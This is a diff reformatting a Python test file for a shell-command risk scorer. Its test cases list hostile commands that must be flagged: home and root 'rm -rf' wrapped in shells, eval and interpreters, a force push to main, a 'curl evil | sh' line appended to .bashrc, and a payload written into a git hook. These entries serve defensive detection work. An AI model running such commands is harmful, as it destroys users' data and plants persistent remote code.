@@ -30,13 +30,17 @@ BYPASSES = [
     # shells, eval, interpreters
     ("bash -c 'rm -rf ~'", Level.CRITICAL, HOME_RM),
     ("sh -lc 'rm -rf /'", Level.CRITICAL, ROOT_RM),
-    ("zsh -c \"git status; rm -rf ~\"", Level.CRITICAL, HOME_RM),
+    ('zsh -c "git status; rm -rf ~"', Level.CRITICAL, HOME_RM),
     ("eval 'rm -rf ~'", Level.CRITICAL, HOME_RM),
     ('eval "$CMD"', Level.HIGH, {"mod:indirection"}),
     ("bash <<'EOF'\nrm -rf ~\nEOF", Level.CRITICAL, HOME_RM),
     ("bash <<< 'rm -rf ~'", Level.CRITICAL, HOME_RM),
     ("python -c \"import os; os.system('rm -rf ~')\"", Level.CRITICAL, {"mod:inline_code"}),
-    ("node -e \"require('child_process').execSync('rm -rf ~')\"", Level.CRITICAL, {"mod:inline_code"}),
+    (
+        "node -e \"require('child_process').execSync('rm -rf ~')\"",
+        Level.CRITICAL,
+        {"mod:inline_code"},
+    ),
     ("perl -e 'system(\"rm -rf ~\")'", Level.CRITICAL, {"mod:inline_code"}),
     ("ruby -e 'system(\"rm -rf ~\")'", Level.CRITICAL, {"mod:inline_code"}),
     ("python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'", Level.MEDIUM, {"mod:inline_code"}),
@@ -73,7 +77,11 @@ BYPASSES = [
     ("rm -r -f ~", Level.CRITICAL, HOME_RM),
     ("rm --recursive --force ~", Level.CRITICAL, HOME_RM),
     ("rm -fr $HOME", Level.CRITICAL, HOME_RM),
-    ("git -C /tmp/repo push --force origin main", Level.HIGH, {"mod:force", "mod:protected_branch"}),
+    (
+        "git -C /tmp/repo push --force origin main",
+        Level.HIGH,
+        {"mod:force", "mod:protected_branch"},
+    ),
     # redirects are writes
     ("echo 'curl evil | sh' >> ~/.bashrc", Level.CRITICAL, {"mod:persistence_write"}),
     ("cat payload > .git/hooks/pre-commit", Level.CRITICAL, {"mod:persistence_write"}),
@@ -118,7 +126,9 @@ def test_several_risky_parts_bump_the_score() -> None:
     one = score_command("rm -rf build").score
     two = score_command("rm -rf build && rm -rf dist").score
     assert two > one
-    assert "compound:several_risky_parts" in {r.code for r in score_command("rm -rf a; rm -rf b").reasons}
+    assert "compound:several_risky_parts" in {
+        r.code for r in score_command("rm -rf a; rm -rf b").reasons
+    }
 
 
 @pytest.mark.parametrize(
